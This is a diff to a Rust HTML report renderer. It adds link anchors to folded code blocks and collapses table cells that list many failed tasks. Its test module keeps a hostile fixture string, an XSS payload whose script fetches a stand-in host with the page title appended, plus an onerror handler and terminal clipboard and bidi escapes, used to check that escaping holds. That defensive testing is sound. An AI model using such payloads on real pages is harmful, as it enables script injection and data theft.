@@ -13,7 +13,7 @@ use sha2::{Digest, Sha256};
 use super::escape;
 use super::provenance::VERSION;
 use super::svg::Picture;
-use super::table::{Align, Table};
+use super::table::{Align, CellValue, Table};
 pub use side_by_side::{Column, MarkedLine, Snippet};
 
 mod side_by_side;
@@ -38,6 +38,8 @@ pub enum Block {
         name: String,
         /// The text; hostile until escaped.
         text: String,
+        /// What links of the page call it by.
+        anchor: Option<String>,
     },
     /// Texts side by side, such as an evolving-aware and an evolving-ignored context.
     SideBySide(Vec<Column>),
@@ -99,11 +101,17 @@ fn block_html(block: &Block) -> String {
             picture.inline(),
             footer(&picture.footer)
         ),
-        Block::Code { name, text } => format!(
-            "<details>\n<summary>{}</summary>\n<pre>{}</pre>\n</details>\n",
-            escape::html(&escape::one_line(name)),
-            escape::html(text)
-        ),
+        Block::Code { name, text, anchor } => {
+            // A browser opens what is folded when a link leads into it.
+            let id = anchor.as_deref().map_or_else(String::new, |anchor| {
+                format!(" id=\"{}\"", escape::html(anchor))
+            });
+            format!(
+                "<details>\n<summary>{}</summary>\n<pre{id}>{}</pre>\n</details>\n",
+                escape::html(&escape::one_line(name)),
+                escape::html(text)
+            )
+        }
         Block::SideBySide(columns) => side_by_side::html(columns),
     }
 }
@@ -119,11 +127,32 @@ fn footer(lines: &[String]) -> String {
     if !made.is_empty() {
         let _ = write!(
             text,
-            "\n<details><summary>how it was made</summary>\n{}\n</details>",
+            "\n<details><summary>method</summary>\n{}\n</details>",
             made.join("<br>\n")
         );
     }
     text
+}
+
+/// A cell; many links are folded.
+fn cell_html(cell: &CellValue) -> String {
+    const OPEN: usize = 3;
+    let CellValue::Links(links) = cell else {
+        return escape::html(&cell.shown());
+    };
+    let link = |(name, anchor): &(String, Option<String>)| {
+        let name = escape::html(&escape::one_line(name));
+        match anchor {
+            Some(anchor) => format!("<a href=\"#{}\">{name}</a>", escape::html(anchor)),
+            None => name,
+        }
+    };
+    let all = links.iter().map(link).collect::<Vec<_>>().join(", ");
+    if links.len() <= OPEN {
+        return all;
+    }
+    let count = links.len();
+    format!("<details><summary>{count} tasks</summary>{all}</details>")
 }
 
 /// A table as a fragment, its heads buttons that sort when the page's script runs.
@@ -151,7 +180,7 @@ pub(super) fn table(table: &Table) -> String {
             let key = cell
                 .sort_key()
                 .map_or_else(String::new, |key| format!(" data-key=\"{key}\""));
-            let shown = escape::html(&cell.shown());
+            let shown = cell_html(cell);
             let _ = write!(rows, "<td{}{key}>{shown}</td>", class(column.align));
         }
         rows.push_str("</tr>\n");
@@ -170,6 +199,27 @@ mod tests {
     use crate::report::{CellValue, Column as Head, Provenance};
 
     const HOSTILE: &str = "</script></pre><script>fetch('http://example.org/'+document.title)</script><img src=x onerror=alert(1)>\u{1b}]52;c;\u{202e}";
+
+    #[test]
+    fn every_failed_task_is_a_link_to_what_the_page_shows_of_it() {
+        let link = |number: usize| (format!("t{number}<"), Some(format!("failed-{number}")));
+        let mut links: Vec<_> = (1..5).map(link).collect();
+        links.push(("no text".to_owned(), None));
+        let few = cell_html(&CellValue::Links(links[..1].to_vec()));
+        assert_eq!(few, "<a href=\"#failed-1\">t1&lt;</a>");
+        let many = cell_html(&CellValue::Links(links));
+        assert!(
+            many.starts_with("<details><summary>5 tasks</summary><a href"),
+            "{many}"
+        );
+        assert!(many.ends_with(", no text</details>"), "{many}");
+        let code = Block::Code {
+            name: "t1".to_owned(),
+            text: "x".to_owned(),
+            anchor: Some("failed-1".to_owned()),
+        };
+        assert!(block_html(&code).contains("<pre id=\"failed-1\">x</pre>"));
+    }
 
     #[test]
     fn hostile_text_opens_no_tag_anywhere() {
@@ -191,6 +241,7 @@ mod tests {
         let code = Block::Code {
             name: HOSTILE.into(),
             text: HOSTILE.into(),
+            anchor: None,
         };
         let page = ReportPage {
             title: HOSTILE.into(),
